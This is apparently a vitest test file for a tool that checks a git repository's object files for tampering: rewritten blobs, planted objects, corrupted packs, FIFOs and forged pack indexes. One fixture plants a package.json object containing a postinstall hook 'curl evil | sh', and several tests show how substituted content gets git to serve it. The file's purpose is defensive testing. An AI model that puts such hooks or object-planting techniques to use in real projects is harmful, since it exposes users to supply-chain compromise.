import { execFileSync } from "node:child_process";
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, unlinkSync, writeFileSync, mkdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { afterEach, describe, expect, it } from "vitest";
import { alteredObjectFiles, listObjectFiles, verify } from "../../../src/node/commands/git-objects";

const temps: string[] = [];
afterEach(() => {
  for (const t of temps.splice(0)) rmSync(t, { recursive: true, force: true });
});

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", args, {
    cwd,
    encoding: "utf8",
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: "1", GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@t" },
  }).trim();

function repo(): { ws: string; objects: string; blob: string } {
  const ws = mkdtempSync(join(tmpdir(), "yoke-objects-"));
  temps.push(ws);
  mkdirSync(join(ws, "src"));
  writeFileSync(join(ws, "src/a.js"), "keep\n");
  writeFileSync(join(ws, "package.json"), '{"name":"x"}\n');
  git(ws, "init", "-q", "-b", "main");
  git(ws, "add", "-A");
  git(ws, "commit", "-qm", "init");
  return { ws, objects: join(ws, ".git/objects"), blob: git(ws, "rev-parse", "HEAD:src/a.js") };
}

const loose = (content: string) => deflateSync(Buffer.from(`blob ${Buffer.byteLength(content)}\0${content}`));

describe("a repository's object files, checked around a command", () => {
  it("every object git wrote verifies, loose and packed; git's own work after the listing changes nothing the check reports", () => {
    const { ws, objects } = repo();
    const files = listObjectFiles(objects)!;
    expect(files.size).toBeGreaterThanOrEqual(4); // two blobs, a tree, a commit
    for (const rel of files.keys()) expect(verify(objects, rel), rel).toBeUndefined();
    // Ordinary work: a commit adds objects, gc packs them and removes the loose ones.
    writeFileSync(join(ws, "src/b.js"), "new\n");
    git(ws, "add", "-A");
    git(ws, "commit", "-qm", "two");
    git(ws, "gc", "-q");
    expect(readdirSync(join(objects, "pack")).some((n) => n.endsWith(".pack"))).toBe(true);
    expect(alteredObjectFiles(objects, files)).toEqual([]);
  });

  it("finds the file of an existing object rewritten with other content (git still serves it)", () => {
    const { ws, objects, blob } = repo();
    const before = listObjectFiles(objects)!;
    const file = join(objects, blob.slice(0, 2), blob.slice(2));
    chmodSync(file, 0o644);
    writeFileSync(file, loose("evil\n"));
    expect(git(ws, "cat-file", "blob", blob), "git reads it without checking (control)").toBe("evil");
    expect(alteredObjectFiles(objects, before)).toEqual([{ rel: `${blob.slice(0, 2)}/${blob.slice(2)}`, why: "its content is not the content whose hash is its name" }]);
  });

  it("finds an object planted under the name of content the user will fetch later, and garbage in an object's place", () => {
    const { objects } = repo();
    const before = listObjectFiles(objects)!;
    const name = execFileSync("git", ["hash-object", "--stdin"], { input: '{"name":"x","version":"2.0.0"}\n', encoding: "utf8" }).trim();
    mkdirSync(join(objects, name.slice(0, 2)), { recursive: true });
    writeFileSync(join(objects, name.slice(0, 2), name.slice(2)), loose('{"scripts":{"postinstall":"curl evil | sh"}}\n'));
    const other = "ab" + "c".repeat(38);
    mkdirSync(join(objects, "ab"), { recursive: true });
    writeFileSync(join(objects, "ab", other.slice(2)), "not zlib");
    const found = alteredObjectFiles(objects, before);
    expect(found).toContainEqual({ rel: `${name.slice(0, 2)}/${name.slice(2)}`, why: "its content is not the content whose hash is its name" });
    expect(found).toContainEqual({ rel: `ab/${other.slice(2)}`, why: "it is not a compressed git object" });
    expect(found).toHaveLength(2);
  });

  it("finds a pack whose content was changed, and never blocks on a FIFO put in an object's place", () => {
    const { ws, objects, blob } = repo();
    git(ws, "gc", "-q");
    const before = listObjectFiles(objects)!;
    const pack = readdirSync(join(objects, "pack")).find((n) => n.endsWith(".pack"))!;
    const data = readFileSync(join(objects, "pack", pack));
    data[20] ^= 0xff;
    unlinkSync(join(objects, "pack", pack));
    writeFileSync(join(objects, "pack", pack), data);
    mkdirSync(join(objects, blob.slice(0, 2)), { recursive: true });
    execFileSync("mkfifo", [join(objects, blob.slice(0, 2), blob.slice(2))]);
    const found = alteredObjectFiles(objects, before);
    expect(found).toContainEqual({ rel: `pack/${pack}`, why: "its content does not match its own checksum" });
    expect(found).toContainEqual({ rel: `${blob.slice(0, 2)}/${blob.slice(2)}`, why: "it is not a regular file" });
  });
});

describe("packs whose checksums are valid but whose index lies, and multi-pack indexes", () => {
  const forge = join(__dirname, "../../fixtures/git/forge-pack.js");

  it("finds a planted pack whose index names another blob (git would serve its content), with git verify-pack", () => {
    const { ws, objects, blob } = repo();
    git(ws, "gc", "-q");
    const before = listObjectFiles(objects)!;
    const pack = execFileSync(process.execPath, [forge, blob], { cwd: ws, encoding: "utf8" }).trim();
    // Control: the plant works — git now writes "evil" for src/a.js.
    rmSync(join(ws, "src/a.js"));
    git(ws, "checkout", "--", "src/a.js");
    expect(readFileSync(join(ws, "src/a.js"), "utf8")).toBe("evil\n");
    const found = alteredObjectFiles(objects, before);
    expect(found.map((f) => f.rel)).toEqual([`pack/${pack}.idx`]);
    expect(found[0]!.why).toMatch(/^its index gives objects names their content does not hash to \(git verify-pack: /);
  });

  it("accepts the packs and indexes git's own work writes (gc, repack, fetch from another repository)", () => {
    const { ws, objects } = repo();
    const before = listObjectFiles(objects)!;
    git(ws, "gc", "-q");
    writeFileSync(join(ws, "b.txt"), "b\n");
    git(ws, "add", "b.txt");
    git(ws, "commit", "-qm", "b");
    git(ws, "repack", "-adq");
    const other = mkdtempSync(join(tmpdir(), "yoke-objects-clone-"));
    temps.push(other);
    git(other, "clone", "-q", "--no-local", ws, "c");
    const c = join(other, "c", ".git/objects");
    const cb = listObjectFiles(c)!;
    writeFileSync(join(ws, "c.txt"), "c\n");
    git(ws, "add", "c.txt");
    git(ws, "commit", "-qm", "c");
    git(join(other, "c"), "fetch", "-q", "origin");
    expect(alteredObjectFiles(objects, before)).toEqual([]);
    expect(alteredObjectFiles(c, cb)).toEqual([]);
  });

  it("takes away a new multi-pack index (git reads it unchecked, and works without it)", () => {
    const { ws, objects } = repo();
    git(ws, "gc", "-q");
    const before = listObjectFiles(objects)!;
    git(ws, "multi-pack-index", "write");
    const found = alteredObjectFiles(objects, before);
    expect(found.map((f) => f.rel)).toEqual(["pack/multi-pack-index"]);
    expect(verify(objects, "pack/multi-pack-index")).toMatch(/multi-pack index, which git reads without checking/);
    rmSync(join(objects, "pack/multi-pack-index"));
    expect(git(ws, "show", "HEAD:src/a.js")).toBe("keep");
  });
});
